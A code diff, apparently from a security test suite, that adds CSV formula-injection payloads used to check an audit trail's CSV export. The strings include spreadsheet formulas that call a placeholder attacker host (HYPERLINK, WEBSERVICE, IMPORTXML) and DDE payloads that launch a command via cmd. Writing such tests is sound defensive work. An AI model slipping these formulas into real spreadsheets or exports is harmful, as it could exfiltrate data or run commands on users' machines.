@@ -36,6 +36,11 @@ PAYLOADS = {
     "newline": "{t}-first\n{t}-own-line\r\n\n✓ {t}-own-line",
     "long": "{t}-" + "A" * LONG,
 }
+# What a spreadsheet runs when a CSV cell starts with it (OWASP's CSV injection: `=`, `+`, `-`, `@`, tab, CR): the
+# audit trail's CSV export carries what people typed (actor, reason). Each fetches or runs something if evaluated.
+FORMULAS = ('=HYPERLINK("http://' + EVIL + '/{t}","audit")', "+1+cmd|' /C calc'!A0 {t}", "-2+3+cmd|' /C calc'!A0 {t}",
+            '@SUM(1+1)*cmd|\' /C calc\'!A0 {t}', '\t=WEBSERVICE("http://' + EVIL + '/{t}")',
+            '\r=IMPORTXML("http://' + EVIL + '/{t}","//a")')
 # Where each payload is placed (the field names used in tags).
 FIELDS = ("ns-rev", "ns-annotation", "pod-rev", "pod-label", "pod-annotation", "status-rev", "args", "env",
           "vs-host", "vs-header", "vs-dest", "dr-host", "actor", "reason")
